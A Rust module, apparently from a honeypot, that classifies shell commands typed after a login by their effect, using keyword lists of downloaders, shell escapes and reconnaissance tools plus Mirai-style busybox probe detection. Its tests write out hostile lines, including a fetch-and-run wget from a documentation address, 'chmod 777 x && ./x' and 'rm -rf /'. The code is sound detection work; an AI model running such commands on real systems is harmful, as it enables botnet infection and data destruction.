//! What a line is for that somebody typed after a login: the vocabulary of those who come to stay.

/// Words that download, whatever their arguments.
const DOWNLOADS: [&str; 8] =
    ["wget", "curl", "tftp", "ftpget", "fetch", "lwp-download", "certutil", "bitsadmin"];
/// Ways out of a device's menu into its shell.
const SHELLS: [&str; 7] = ["enable", "system", "shell", "sh", "linuxshell", "debug", "development"];
/// Words that look around.
const EXPLORES: [&str; 9] =
    ["uname", "id", "whoami", "ps", "ifconfig", "netstat", "lscpu", "nproc", "ipconfig"];
const KILLS: [&str; 3] = ["kill", "killall", "pkill"];

/// What `line` is for, if it is for one of the things that matter; of several, the gravest.
pub(super) fn effect(line: &str) -> Option<&'static str> {
    let line = lowered(line);
    let commands: Vec<&str> =
        line.split([';', '|', '&', '\n']).map(str::trim).filter(|part| !part.is_empty()).collect();
    let any = |test: &dyn Fn(&str, &str) -> bool| {
        commands.iter().any(|command| {
            let (word, rest) = first_words(command);
            test(word, rest)
        })
    };
    let erases = |word: &str, rest: &str| {
        (word == "rm" && rest.contains("-rf")) || (word == "dd" && rest.contains("of=/dev/"))
    };
    if any(&|word, _| DOWNLOADS.contains(&word)) {
        return Some("download");
    }
    if any(&|word, rest| matches!(word, "echo" | "printf") && rest.contains("\\x")) {
        return Some("write");
    }
    if any(&|word, rest| {
        word.starts_with("./") || (word == "chmod" && (rest.contains("777") || rest.contains("+x")))
    }) {
        return Some("execute");
    }
    if any(&erases) {
        return Some("erase");
    }
    if line.contains("busybox") && any(&|word, _| is_made_up(word)) {
        return Some("applet");
    }
    if any(&|word, _| KILLS.contains(&word)) {
        return Some("kill");
    }
    if any(&|word, rest| SHELLS.contains(&word) && rest.is_empty()) {
        return Some("shell");
    }
    let explores = |word: &str, rest: &str| {
        EXPLORES.contains(&word)
            || (word == "cat" && (rest.contains("/proc/") || rest.contains("/etc/")))
    };
    any(&explores).then_some("explore")
}

/// The command and its arguments, past those that only run another.
fn first_words(command: &str) -> (&str, &str) {
    let mut rest = command;
    loop {
        let (word, after) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
        let name = word.rsplit('/').next().unwrap_or(word);
        let is_wrapper = matches!(name, "busybox" | "sudo" | "nohup" | "exec" | "do" | "then");
        if !is_wrapper || after.trim().is_empty() {
            return (if word.starts_with("./") { word } else { name }, after.trim());
        }
        rest = after.trim();
    }
}

/// A word in capitals behind `busybox`: no applet has such a name, and the answer "applet not
/// found" tells a botnet that it has a shell.
fn is_made_up(word: &str) -> bool {
    word.len() >= 4 && word.bytes().all(|byte| byte.is_ascii_uppercase())
}

/// Lower case, but for words that are nothing else than capitals.
fn lowered(line: &str) -> String {
    let lowered = |word: &str| {
        if is_made_up(word.trim_end()) { word.to_owned() } else { word.to_ascii_lowercase() }
    };
    line.split_inclusive(char::is_whitespace).map(lowered).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_what_a_line_is_for() {
        let cases = [
            ("cd /tmp; /bin/busybox wget http://192.0.2.1/x; sh x", Some("download")),
            ("echo -ne '\\x7f\\x45' > .x", Some("write")),
            ("chmod 777 x && ./x", Some("execute")),
            ("/bin/busybox MIRAI", Some("applet")),
            ("sh", Some("shell")),
            ("cat /proc/cpuinfo", Some("explore")),
            ("rm -rf /", Some("erase")),
            ("show running-config", None),
            ("ls", None),
            ("", None),
        ];

        for (line, expected) in cases {
            assert_eq!(effect(line), expected, "{line}");
        }
    }
}
